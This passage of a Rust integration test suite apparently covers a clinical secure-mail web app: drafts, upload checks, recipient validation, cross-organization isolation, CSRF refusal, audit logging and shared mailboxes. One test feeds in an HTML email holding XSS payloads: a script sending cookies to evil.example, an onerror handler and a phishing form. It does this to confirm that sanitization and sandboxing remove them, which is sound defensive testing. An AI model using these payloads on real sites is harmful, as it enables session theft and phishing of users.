    assert_eq!(beacon.status, StatusCode::OK);
    assert!(beacon.body.starts_with("Saved "));
    let kept = "Dear colleague,\n\nplease see Mr. Okafor this week.\n\nAna";
    assert_eq!(
        drafts::get(&app.state.db, id).await.unwrap().unwrap().body,
        kept
    );

    // a colleague sharing the mailbox sees none of it
    let mut ben = app.signed_in("ben@direct.lakeside.test").await;
    assert_eq!(ben.get(&path).await.status, StatusCode::NOT_FOUND);
    assert_eq!(
        ben.get(&format!("{path}/attachments/{attachment}"))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let not_his = [
        ("to", "x@direct.hillside.test"),
        ("subject", "hijack"),
        ("body", ""),
    ];
    assert_eq!(
        ben.post(&path, &not_his).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        ben.post_with(&path, &not_his, &[("x-autosave", "1")])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        ben.post(&format!("{path}/send"), &not_his).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        ben.upload(
            &format!("{path}/attachments"),
            &[("x.pdf", "application/pdf", &file)],
            true
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        ben.post(&format!("{path}/attachments/{attachment}/delete"), &[])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        ben.post(&format!("{path}/delete"), &[]).await.status,
        StatusCode::NOT_FOUND
    );
    let his = ben.get(&format!("/mail/{}/drafts", shared.id)).await;
    assert_eq!(his.status, StatusCode::OK);
    assert!(!his.body.contains(&path) && !his.body.contains("knee pain"));
    assert_eq!(count(&his.body, "drafts"), 0);
    let still = drafts::get(&app.state.db, id).await.unwrap().unwrap();
    assert_eq!(
        (still.subject.as_str(), still.body.as_str()),
        (typed[2].1, kept)
    );
    assert_eq!(
        drafts::attachments(&app.state.db, id).await.unwrap().len(),
        1
    );

    // a text over 60 KB is refused, saying so, and the saved text stays
    let long = "x".repeat(61 * 1024);
    let too_long = [
        ("to", typed[0].1),
        ("cc", ""),
        ("subject", "long"),
        ("body", &long),
    ];
    let refused = ana
        .post_with(&path, &too_long, &[("x-autosave", "1")])
        .await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert!(
        refused.body.contains(
            "The text is longer than a message may be here (60 KB); attach a document instead."
        ),
        "{}",
        refused.body
    );
    // a page (Save or Send, without the script) comes back with what was typed
    for to in [path.clone(), format!("{path}/send")] {
        let refused = ana.post(&to, &too_long).await;
        assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{to}");
        assert!(
            refused.body.contains(
                "The text is longer than a message may be here (60 KB); attach a document instead."
            ),
            "{}",
            refused.body
        );
        assert_eq!(field(&refused, "body"), long, "{to}");
        assert_eq!(field(&refused, "subject"), "long");
        assert_eq!(field(&refused, "to"), typed[0].1);
    }
    // a new message too: nothing is made
    let before = sqlx::query_scalar::<_, i64>("select count(*) from drafts")
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    let refused = ana
        .post(&format!("/mail/{}/compose/send", shared.id), &too_long)
        .await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert_eq!(field(&refused, "body"), long);
    let after = sqlx::query_scalar::<_, i64>("select count(*) from drafts")
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(after, before, "no draft was made");
    let page = ana.get(&path).await;
    assert_eq!(field(&page, "body"), kept);
    assert_eq!(field(&page, "subject"), typed[2].1);

    // a plain "Save draft" comes back to the draft
    let r = ana.post(&path, &typed).await;
    assert_eq!(r.location(), path);
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Draft saved.");

    // removing the attachment, then discarding the draft
    let r = ana
        .post(&format!("{path}/attachments/{attachment}/delete"), &[])
        .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Attachment removed.");
    assert!(!page.body.contains("xray.pdf"));
    let r = ana.post(&format!("{path}/delete"), &[]).await;
    assert_eq!(r.location(), format!("/mail/{}/drafts", shared.id));
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Draft discarded.");
    assert!(page.body.contains("No drafts."));
    assert!(drafts::get(&app.state.db, id).await.unwrap().is_none());
    assert_eq!(ana.get(&path).await.status, StatusCode::NOT_FOUND);
}

// ---------------------------------------------------------------------------------
// 6. uploads

#[tokio::test]
async fn uploads_that_are_not_allowed_are_refused_with_the_file_named_and_the_reason() {
    let app = TestApp::spawn_with(|config| {
        config.max_message_mb = 1;
        config.attachment_types.0.clear();
    })
    .await;
    let mb = ana_desk(&app).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let id = compose(&mut ana, mb.id).await;
    let page = ana.get(&format!("/mail/drafts/{id}")).await;
    assert!(
        page.body
            .contains("The attachments of one message may add up to 1 MB."),
        "the limit is stated"
    );
    let upload = format!("/mail/drafts/{id}/attachments");
    let first = pdf("First page");
    let ok = ana
        .upload(&upload, &[("first.pdf", "application/pdf", &first)], true)
        .await;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
    let names = |app: &TestApp| {
        let db = app.state.db.clone();
        async move {
            drafts::attachments(&db, id)
                .await
                .unwrap()
                .into_iter()
                .map(|a| a.name)
                .collect::<Vec<_>>()
        }
    };

    let refusal = |page: &Page| {
        Regex::new(r#"(?s)<div class="banner warn" role="alert" id="upload-refused">(.*?)</div>"#)
            .unwrap()
            .captures(&page.body)
            .map(|c| unescape(&c[1]))
            .unwrap_or_else(|| panic!("no refusal in {}", page.body))
    };

    // a Windows program renamed .pdf
    let exe = windows_program();
    let r = ana
        .upload(&upload, &[("setup.pdf", "application/pdf", &exe)], true)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let why = refusal(&r);
    assert!(
        why.contains("“setup.pdf”") && why.contains("not a PDF"),
        "{why}"
    );
    assert!(
        r.body.contains("first.pdf"),
        "the list still shows what is attached"
    );

    // over the per-message limit (1 MB); what was attached stays
    let mut big = pdf("Big scan");
    big.resize(1024 * 1024 + 10, b' ');
    let r = ana
        .upload(&upload, &[("scan.pdf", "application/pdf", &big)], true)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let why = refusal(&r);
    assert!(
        why.contains("“scan.pdf”") && why.contains("too large"),
        "{why}"
    );
    assert!(r.body.contains("first.pdf"));

    // a type the operator has not allowed (only PDF is)
    let xml = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Summary</title></ClinicalDocument>\n";
    let r = ana
        .upload(&upload, &[("record.xml", "text/xml", xml)], true)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let why = refusal(&r);
    assert!(why.contains("“record.xml”") && why.contains("PDF"), "{why}");

    // several at once: the good one is kept, the bad one named
    let second = pdf("Second page");
    let r = ana
        .upload(
            &upload,
            &[
                ("second.pdf", "application/pdf", &second),
                ("tool.exe", "application/octet-stream", &exe),
            ],
            true,
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refusal(&r).contains("“tool.exe”"));
    assert!(r.body.contains("second.pdf"));
    assert_eq!(names(&app).await, vec!["first.pdf", "second.pdf"]);

    // without the page's script: the refusal comes back on the draft page
    let r = ana
        .upload(&upload, &[("setup.pdf", "application/pdf", &exe)], false)
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(r.location(), format!("/mail/drafts/{id}"));
    let page = follow(&mut ana, r).await;
    let said = flash(&page.body);
    assert!(
        said.contains("“setup.pdf”") && said.contains("not a PDF"),
        "{said}"
    );
    assert!(page.body.contains("first.pdf") && page.body.contains("second.pdf"));
    let third = pdf("Third page");
    let r = ana
        .upload(&upload, &[("third.pdf", "application/pdf", &third)], false)
        .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Attached: third.pdf.");
    assert_eq!(
        names(&app).await,
        vec!["first.pdf", "second.pdf", "third.pdf"]
    );
}

// ---------------------------------------------------------------------------------
// 7. recipients

#[tokio::test]
async fn each_recipient_is_checked_and_an_unknown_one_stops_the_send_keeping_the_draft() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    kim_desk(&app).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let check = |address: &str| {
        format!(
            "/mail/check-address?{}",
            crate::helpers::serde_urlencode(&[("address", address)])
        )
    };
    let answer = async |b: &mut Browser, address: &str| -> (bool, String) {
        let page = b.get(&check(address)).await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.body);
        let v: serde_json::Value = serde_json::from_str(&page.body).unwrap();
        let note = v["note"].as_str().unwrap().to_owned();
        assert!(!note.trim().is_empty(), "a reason for {address}");
        (v["ok"].as_bool().unwrap(), note)
    };
    let (ok, note) = answer(&mut ana, "dr.lee.example.org").await;
    assert!(!ok);
    assert!(note.contains("is not a valid address"), "{note}");
    let (ok, note) = answer(&mut ana, "nobody@direct.hillside.test").await;
    assert!(!ok);
    assert_eq!(
        note,
        "there is no mailbox nobody@direct.hillside.test on this HISP"
    );
    let (ok, note) = answer(&mut ana, "front@direct.hillside.test").await;
    assert!(ok);
    assert_eq!(note, "on this HISP");
    let (ok, note) = answer(&mut ana, "Dr Lee <FRONT@direct.hillside.test>").await;
    assert!(ok, "{note}");
    let (ok, note) = answer(&mut ana, "dr.who@elsewhere.example").await;
    assert!(!ok);
    assert!(
        note.starts_with(directmail::recipients::NOT_DIRECT),
        "{note}"
    );

    // the address book offers this HISP's mailboxes
    let s = ana.get("/mail/suggest?q=front").await;
    let list: serde_json::Value = serde_json::from_str(&s.body).unwrap();
    assert!(
        list.as_array()
            .unwrap()
            .iter()
            .any(|s| s["address"] == "front@direct.hillside.test"),
        "{list}"
    );

    // sending to an address without a certificate: refused, named, nothing lost
    let id = compose(&mut ana, mb.id).await;
    let fields = [
        ("to", "front@direct.hillside.test, dr.who@elsewhere.example"),
        ("cc", ""),
        ("subject", "Follow-up visit"),
        ("body", "Please book a follow-up visit in two weeks."),
    ];
    let r = ana.post(&format!("/mail/drafts/{id}/send"), &fields).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let text = unescape(&r.body);
    assert!(text.contains("Nothing was sent"), "{text}");
    // said once, beside To, and the list above points there
    assert!(
        text.contains(&format!(
            "dr.who@elsewhere.example — {}",
            directmail::recipients::NOT_DIRECT
        )),
        "{text}"
    );
    assert_eq!(
        text.matches("looks like ordinary e-mail").count(),
        1,
        "{text}"
    );
    assert!(text.contains("<li>One recipient cannot receive it: see the mark under To.</li>"));
    assert!(text.contains(r#"aria-describedby="to-chips to-help" aria-invalid="true""#));
    assert!(
        text.contains("front@direct.hillside.test — on this HISP"),
        "{text}"
    );
    assert_eq!(field(&r, "subject"), "Follow-up visit");
    assert_eq!(
        field(&r, "body"),
        "Please book a follow-up visit in two weeks."
    );
    let kept = drafts::get(&app.state.db, id).await.unwrap().expect("kept");
    assert_eq!(kept.body, "Please book a follow-up visit in two weeks.");
    assert_eq!(kept.to, fields[0].1);
    let queued: i64 = sqlx::query_scalar("select count(*) from outbound_messages")
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(queued, 0, "nothing was sent");
    assert!(
        inbound::messages_in(&app.state.db, mb.id, "sent", 10)
            .await
            .unwrap()
            .is_empty()
    );
    let page = ana.get(&format!("/mail/drafts/{id}")).await;
    assert_eq!(
        field(&page, "body"),
        "Please book a follow-up visit in two weeks."
    );

    // and without any recipient
    let r = ana
        .post(
            &format!("/mail/drafts/{id}/send"),
            &[("to", ""), ("subject", "x"), ("body", "y")],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("Add at least one recipient in To."));
    assert!(drafts::get(&app.state.db, id).await.unwrap().is_some());
}

// ---------------------------------------------------------------------------------
// 8. nobody else's mail

#[tokio::test]
async fn another_organizations_member_gets_404_on_every_mail_route_and_forged_posts_change_nothing()
{
    let app = TestApp::spawn().await;
    let ana_box = ana_desk(&app).await;
    let kim_box = kim_desk(&app).await;
    let kb = kim_box.id;
    let secret = Mail::new(
        "lab@partner.example",
        "front@direct.hillside.test",
        "Confidential biopsy",
        "",
    )
    .html("<p>Biopsy <b>result</b></p>")
    .file("biopsy.pdf", pdf("Biopsy"));
    let km = deliver(&app, kb, &secret).await;
    let binned = deliver(
        &app,
        kb,
        &Mail::new(
            "lab@partner.example",
            "front@direct.hillside.test",
            "Binned",
            "x",
        ),
    )
    .await;
    let mut kim = app.signed_in("kim@direct.hillside.test").await;
    act(&mut kim, kb, &[("action", "trash")], &[binned]).await;
    let r = kim
        .post(&format!("/mail/{kb}/folders"), &[("name", "Pathology")])
        .await;
    let kf = r.location().rsplit('/').next().unwrap().to_owned();
    let kd = compose(&mut kim, kb).await;
    let kim_text = [
        ("to", "lab@partner.example"),
        ("cc", ""),
        ("subject", "Private draft"),
        ("body", "Kim's words"),
    ];
    kim.post_with(
        &format!("/mail/drafts/{kd}"),
        &kim_text,
        &[("x-autosave", "1")],
    )
    .await;
    kim.upload(
        &format!("/mail/drafts/{kd}/attachments"),
        &[("notes.pdf", "application/pdf", &pdf("Notes"))],
        true,
    )
    .await;
    let ka = drafts::attachments(&app.state.db, kd).await.unwrap()[0].id;

    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let gets = [
        format!("/mail/{kb}/inbox"),
        format!("/mail/{kb}/trash"),
        format!("/mail/{kb}/drafts"),
        format!("/mail/{kb}/{kf}"),
        format!("/mail/{kb}/search?q=biopsy"),
        format!("/mail/{kb}/inbox/new?after=0"),
        format!("/mail/messages/{km}"),
        format!("/mail/messages/{km}/body"),
        format!("/mail/messages/{km}/print"),
        format!("/mail/messages/{km}/attachments/0"),
        format!("/mail/messages/{km}/attachments/0?inline=1"),
        format!("/mail/drafts/{kd}"),
        format!("/mail/drafts/{kd}/attachments/{ka}"),
        format!("/mail/{kb}/compose"),
    ];
    for path in &gets {
        let page = ana.get(path).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "GET {path}");
        assert!(
            !page.body.contains("Biopsy") && !page.body.contains("Private draft"),
            "GET {path} shows nothing of it"
        );
    }
    let km_s = km.to_string();
    let posts: Vec<(String, Vec<(&str, &str)>)> = vec![
        (format!("/mail/{kb}/compose"), vec![]),
        (
            format!("/mail/{kb}/act"),
            vec![("action", "trash"), ("id", km_s.as_str())],
        ),
        (format!("/mail/{kb}/undo"), vec![]),
        (format!("/mail/{kb}/folders"), vec![("name", "Stolen")]),
        (format!("/mail/{kb}/folders/{kf}/delete"), vec![]),
        (format!("/mail/{kb}/trash/empty"), vec![]),
        (
            format!("/mail/messages/{km}/act"),
            vec![("action", "reply")],
        ),
        (
            format!("/mail/messages/{km}/act"),
            vec![("action", "forward")],
        ),
        (
            format!("/mail/messages/{km}/act"),
            vec![("action", "trash")],
        ),
        (
            format!("/mail/messages/{km}/act"),
            vec![("action", "unread")],
        ),
        (format!("/mail/drafts/{kd}"), vec![("subject", "Hijacked")]),
        (
            format!("/mail/drafts/{kd}/send"),
            vec![("to", "dr.ana@direct.lakeside.test")],
        ),
        (format!("/mail/drafts/{kd}/attachments/{ka}/delete"), vec![]),
        (format!("/mail/drafts/{kd}/delete"), vec![]),
        (
            format!("/mail/{kb}/compose/send"),
            vec![("to", "dr.ana@direct.lakeside.test")],
        ),
    ];
    for (path, fields) in &posts {
        let page = ana.post(path, fields).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "POST {path}");
    }
    let autosave = ana
        .post_with(
            &format!("/mail/drafts/{kd}"),
            &[("subject", "Hijacked")],
            &[("x-autosave", "1")],
        )
        .await;
    assert_eq!(autosave.status, StatusCode::NOT_FOUND);
    for to in [
        format!("/mail/drafts/{kd}/attachments"),
        format!("/mail/{kb}/compose/attachments"),
    ] {
        for script in [true, false] {
            let up = ana
                .upload(&to, &[("x.pdf", "application/pdf", &pdf("x"))], script)
                .await;
            assert_eq!(
                up.status,
                StatusCode::NOT_FOUND,
                "upload to {to} (script: {script})"
            );
        }
    }
    // her own mailbox's form with Kim's message in it moves nothing
    act(&mut ana, ana_box.id, &[("action", "trash")], &[km]).await;
    act(&mut ana, ana_box.id, &[("action", "read")], &[km]).await;

    // Kim's mail is as she left it
    assert_eq!(place(&app, km).await, at("inbox", false), "not even read");
    assert_eq!(place(&app, binned).await, at("trash", false));
    assert!(
        messages::folder_label(&app.state.db, kb, &kf)
            .await
            .unwrap()
            .is_some()
    );
    assert_eq!(
        messages::sidebar(&app.state.db, 0, kb)
            .await
            .unwrap()
            .folders
            .len(),
        1
    );
    let draft = drafts::get(&app.state.db, kd)
        .await
        .unwrap()
        .expect("draft");
    assert_eq!(
        (draft.subject.as_str(), draft.body.as_str()),
        ("Private draft", "Kim's words")
    );
    assert_eq!(
        drafts::attachments(&app.state.db, kd).await.unwrap().len(),
        1
    );
    assert_eq!(
        messages::sidebar(&app.state.db, draft.user_id, kb)
            .await
            .unwrap()
            .drafts,
        1
    );
    let by_ana: Vec<_> = directmail::audit::list(&app.state.db, &Default::default(), 1000)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.actor == "ana@direct.lakeside.test")
        .collect();
    assert!(
        !by_ana
            .iter()
            .any(|e| e.object.contains(&format!("message:{km}"))
                || e.detail.contains(&format!("message:{km}"))),
        "nothing of Kim's was read, printed or moved by Ana: {by_ana:?}"
    );

    // Kim's own posts without the form's token change nothing either
    let forged: Vec<(String, String)> = vec![
        (format!("/mail/{kb}/act"), format!("action=trash&id={km}")),
        (
            format!("/mail/{kb}/act"),
            format!("_csrf=forged&action=trash&id={km}"),
        ),
        (format!("/mail/{kb}/trash/empty"), String::new()),
        (format!("/mail/{kb}/folders"), "name=Forged".to_owned()),
        (format!("/mail/{kb}/folders/{kf}/delete"), String::new()),
        (
            format!("/mail/messages/{km}/act"),
            "action=archive".to_owned(),
        ),
        (
            format!("/mail/drafts/{kd}"),
            "to=evil%40x.example&subject=Forged&body=forged".to_owned(),
        ),
        (
            format!("/mail/drafts/{kd}/send"),
            "to=evil%40x.example&subject=Forged&body=forged".to_owned(),
        ),
        (format!("/mail/drafts/{kd}/delete"), String::new()),
        (format!("/mail/{kb}/compose"), String::new()),
        (
            format!("/mail/{kb}/compose/send"),
            "to=evil%40x.example&subject=Forged&body=forged".to_owned(),
        ),
    ];
    for (path, body) in forged {
        let page = kim.post_raw(&path, body).await;
        assert_eq!(
            page.status,
            StatusCode::FORBIDDEN,
            "POST {path} without token"
        );
    }
    assert_eq!(place(&app, km).await, at("inbox", false));
    assert_eq!(place(&app, binned).await, at("trash", false));
    assert_eq!(
        messages::sidebar(&app.state.db, 0, kb)
            .await
            .unwrap()
            .folders
            .len(),
        1
    );
    let draft = drafts::get(&app.state.db, kd)
        .await
        .unwrap()
        .expect("draft");
    assert_eq!(
        (draft.subject.as_str(), draft.body.as_str()),
        ("Private draft", "Kim's words")
    );
    assert_eq!(
        messages::sidebar(&app.state.db, draft.user_id, kb)
            .await
            .unwrap()
            .drafts,
        1
    );
    let queued: i64 = sqlx::query_scalar("select count(*) from outbound_messages")
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(queued, 0);
}

// ---------------------------------------------------------------------------------
// 9. what a message's body may do

#[tokio::test]
async fn an_html_message_is_shown_sanitized_in_a_sandboxed_frame_without_remote_images() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let html = r#"<html><body>
<p>Your patient's <b>results</b> are ready.</p>
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<img src="x" onerror="alert(document.cookie)">
<img src="http://tracker.example/pixel.gif?who=dr.ana" alt="tracker">
<form action="http://evil.example/login" method="post"><input name="password"><button>Sign in</button></form>
<a href="https://portal.example/results">Open the portal</a>
</body></html>"#;
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "lab@partner.example",
            "dr.ana@direct.lakeside.test",
            "Results",
            "",
        )
        .html(html),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    // the list shows the words, not the markup or the script
    let list = ana.get(&format!("/mail/{}/inbox", mb.id)).await;
    let r = unescape(&row(&list.body, id));
    assert!(r.contains("Your patient's results are ready."), "{r}");
    assert!(!r.contains("document.cookie") && !r.contains("<p>"), "{r}");
    let page = ana.get(&format!("/mail/messages/{id}")).await;
    assert_eq!(page.status, StatusCode::OK);
    let frame = Regex::new(r#"<iframe[^>]*>"#)
        .unwrap()
        .find(&page.body)
        .expect("an iframe")
        .as_str()
        .to_owned();
    assert!(frame.contains("sandbox"), "{frame}");
    assert!(
        !frame.contains("allow-scripts") && !frame.contains("allow-same-origin"),
        "{frame}"
    );
    assert!(
        frame.contains(&format!(r#"src="/mail/messages/{id}/body""#)),
        "{frame}"
    );
    assert!(!page.body.contains("tracker.example") && !page.body.contains("<script>document"));

    let body = ana.get(&format!("/mail/messages/{id}/body")).await;
    assert_eq!(body.status, StatusCode::OK);
    assert!(header(&body.headers, "content-type").starts_with("text/html"));
    let csp = header(&body.headers, "content-security-policy");
    assert!(
        csp.contains("sandbox") && !csp.contains("allow-scripts"),
        "{csp}"
    );
    let lower = body.body.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "{}", body.body);
    assert!(!lower.contains("onerror"), "{}", body.body);
    assert!(!lower.contains("tracker.example"), "{}", body.body);
    assert!(!lower.contains("<form"), "{}", body.body);
    assert!(!lower.contains("evil.example"), "{}", body.body);
    assert!(
        body.body.contains("results"),
        "the text is kept: {}",
        body.body
    );
    assert!(
        body.body.contains("blocked"),
        "the blocked image is mentioned: {}",
        body.body
    );
}

#[tokio::test]
async fn opening_a_message_body_or_attachment_on_its_own_is_audited_as_a_read() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let id = deliver(
        &app,
        mb.id,
        &Mail::new(
            "lab@partner.example",
            "dr.ana@direct.lakeside.test",
            "Results",
            "",
        )
        .html("<p>Your patient's results are ready.</p>"),
    )
    .await;
    let ana = app.signed_in("ana@direct.lakeside.test").await;
    let reads = |action: &'static str, object: String| {
        let db = app.state.db.clone();
        async move {
            directmail::audit::list(&db, &Default::default(), 1000)
                .await
                .unwrap()
                .into_iter()
                .filter(|e| {
                    e.action == action
                        && e.object == object
                        && e.actor == "ana@direct.lakeside.test"
                })
                .map(|e| e.detail)
                .collect::<Vec<_>>()
        }
    };
    assert!(
        reads("message.read", format!("message:{id}"))
            .await
            .is_empty()
    );

    // the frame's address, fetched without the message page around it
    let (status, _, body) = get_bytes(&ana, &format!("/mail/messages/{id}/body")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(String::from_utf8_lossy(&body).contains("results are ready"));
    assert_eq!(
        reads("message.read", format!("message:{id}")).await,
        ["html body"],
        "the body fetched alone is a read"
    );

    // an attachment fetched directly is one too, and so is a missing one not
    let with_file = deliver(
        &app,
        mb.id,
        &Mail::new(
            "lab@partner.example",
            "dr.ana@direct.lakeside.test",
            "Letter",
            "See the letter.",
        )
        .file("letter.pdf", pdf("letter")),
    )
    .await;
    let (status, _, _) =
        get_bytes(&ana, &format!("/mail/messages/{with_file}/attachments/0")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        reads("attachment.download", format!("message:{with_file}/0"))
            .await
            .len(),
        1
    );
    let (status, _, _) =
        get_bytes(&ana, &format!("/mail/messages/{with_file}/attachments/7")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(
        reads("attachment.download", format!("message:{with_file}/7"))
            .await
            .is_empty()
    );
}

#[tokio::test]
async fn a_text_message_links_web_addresses_and_shows_markup_as_text() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let text = deliver(
        &app,
        mb.id,
        &Mail::new(
            "lab@partner.example",
            "dr.ana@direct.lakeside.test",
            "Guide",
            "The guide is at http://example.org/guide?a=1&b=2 and <b>bold</b> is not bold.",
        ),
    )
    .await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = ana.get(&format!("/mail/messages/{text}")).await;
    assert!(
        !page.body.contains(&format!("/mail/messages/{text}/body")),
        "no frame for text"
    );
    let pre = Regex::new(r#"(?s)<pre class="body" id="body">(.*?)</pre>"#)
        .unwrap()
        .captures(&page.body)
        .expect("the text")[1]
        .to_owned();
    assert!(!pre.contains("<b>"), "{pre}");
    assert!(unescape(&pre).contains("<b>bold</b> is not bold."), "{pre}");
    let link = Regex::new(r#"<a [^>]*href="([^"]+)"[^>]*>"#)
        .unwrap()
        .captures(&pre)
        .unwrap_or_else(|| panic!("a link in {pre}"));
    assert_eq!(unescape(&link[1]), "http://example.org/guide?a=1&b=2");
}

// ---------------------------------------------------------------------------------
// 10. shared mailboxes

#[tokio::test]
async fn in_a_shared_mailbox_each_member_sees_who_read_a_message() {
    let app = TestApp::spawn().await;
    let org = app.org("Lakeside Clinic", "direct.lakeside.test").await;
    let ana_user = app
        .user(Some(&org), "ana@direct.lakeside.test", Role::Member)
        .await;
    let ben_user = app
        .user(Some(&org), "ben@direct.lakeside.test", Role::Member)
        .await;
    rename(&app, "ana@direct.lakeside.test", "Ana Ruiz").await;
    rename(&app, "ben@direct.lakeside.test", "Ben Okafor").await;
    let shared = mailbox(
        &app,
        org.id,
        "direct.lakeside.test",
        "referrals@direct.lakeside.test",
        MailboxKind::Shared,
    )
    .await;
    assign(&app, shared.id, ana_user.id).await;
    assign(&app, shared.id, ben_user.id).await;
    let id = deliver(
        &app,
        shared.id,
        &Mail::new(
            "gp@partner.example",
            "referrals@direct.lakeside.test",
            "New referral",
            "Please triage.",
        ),
    )
    .await;
    let inbox = format!("/mail/{}/inbox", shared.id);
    let mut ben = app.signed_in("ben@direct.lakeside.test").await;
    let page = ben.get(&inbox).await;
    assert!(page.body.contains(r#"<span class="tag">shared</span>"#));
    // a draft is its writer's own, even in a shared mailbox: no "shared" on Drafts
    let drafts = ben.get(&format!("/mail/{}/drafts", shared.id)).await;
    assert!(!drafts.body.contains(r#"<span class="tag">shared</span>"#));
    assert!(row(&page.body, id).contains(r#"class="unread""#));
    assert!(!row(&page.body, id).contains("Read by"));

    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    assert_eq!(
        ana.get(&format!("/mail/messages/{id}")).await.status,
        StatusCode::OK
    );

    let page = ben.get(&inbox).await;
    let r = row(&page.body, id);
    assert!(r.contains("Read by Ana Ruiz"), "{r}");
    assert!(!r.contains(r#"class="unread""#), "{r}");
    assert_eq!(count(&page.body, "inbox"), 0);
    let page = ben.get(&format!("/mail/messages/{id}")).await;
    assert!(page.body.contains("Read by Ana Ruiz, "), "{}", page.body);

    // marking it unread again is also told
    ben.post(&format!("/mail/messages/{id}/act"), &[("action", "unread")])
        .await;
    let page = ana.get(&inbox).await;
    assert!(row(&page.body, id).contains("Marked unread by Ben Okafor"));
    assert_eq!(count(&page.body, "inbox"), 1);

    // emptying a shared Trash says who else loses the messages, and asks first
    act(&mut ben, shared.id, &[("action", "trash")], &[id]).await;
    let ask = ben
        .post(&format!("/mail/{}/trash/empty", shared.id), &[])
        .await;
    assert!(
        ask.body.contains(
            "1 message in the Trash of referrals@direct.lakeside.test will be deleted for good. They cannot be brought back. Everyone who shares this mailbox loses them too."
        ),
        "{}",
        ask.body
    );
    assert_eq!(place(&app, id).await.map(|p| p.0), Some("trash".into()));
}

// ---------------------------------------------------------------------------------
// 11. failed delivery

#[tokio::test]
async fn a_failed_delivery_shows_why_and_edit_and_resend_reopens_the_message_as_a_draft() {
    let app = TestApp::spawn().await;
    let ana_box = app
        .practice(
            "Lakeside Clinic",
            "direct.lakeside.test",
            "ana@direct.lakeside.test",
            "dr.ana@direct.lakeside.test",
        )
        .await;
    let letter = pdf("Discharge summary");
    // written before the recipient's certificate disappeared: the sender finds none
    let draft = Draft {
        to: vec!["dr.who@elsewhere.example".into()],
        subject: "Discharge summary".into(),
        text: "Summary attached.\nCall me with questions.".into(),
        attachments: vec![Attachment {
            name: "summary.pdf".into(),
            content_type: "application/pdf".into(),
            data: letter.clone(),
        }],
        ..Default::default()
    };
    let outbound_id =
        directmail::outbound::submit_draft(&app.state.db, &ana_box, "ana", &draft, app.now())
            .await
            .unwrap();
    app.state.wake_sender.notify_one();
    let end = deadline();
    loop {
        let statuses = directmail::store::outbound::statuses(&app.state.db, outbound_id)
            .await
            .unwrap();
        if statuses.iter().any(|(_, state, _)| state == "failed") {
            break;
        }
        assert!(Instant::now() < end, "{statuses:?}");
        pause().await;
    }
    let sent = messages::sent_copy(&app.state.db, outbound_id)
        .await
        .unwrap()
        .expect("a Sent copy");

    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let list = ana.get(&format!("/mail/{}/sent", ana_box.id)).await;
    let r = row(&list.body, sent);
    assert!(r.contains(">Failed<") && r.contains("badge bad"), "{r}");
    let page = ana.get(&format!("/mail/messages/{sent}")).await;
    assert_eq!(page.status, StatusCode::OK);
    let text = unescape(&page.body);
    assert!(
        text.contains("dr.who@elsewhere.example: <strong>failed</strong>"),
        "{text}"
    );
    assert!(
        text.contains("No certificate was found for dr.who@elsewhere.example"),
        "{text}"
    );
    assert!(page.body.contains(r#"value="resend""#) && page.body.contains("Edit and resend"));

    let r = ana
        .post(
            &format!("/mail/messages/{sent}/act"),
            &[("action", "resend")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let id = draft_id(&r.location());
    let page = ana.get(&r.location()).await;
    assert_eq!(field(&page, "to"), "dr.who@elsewhere.example");
    assert_eq!(field(&page, "subject"), "Discharge summary");
    let body = field(&page, "body");
    assert!(
        body.contains("Summary attached.") && body.contains("Call me with questions."),
        "{body}"
    );
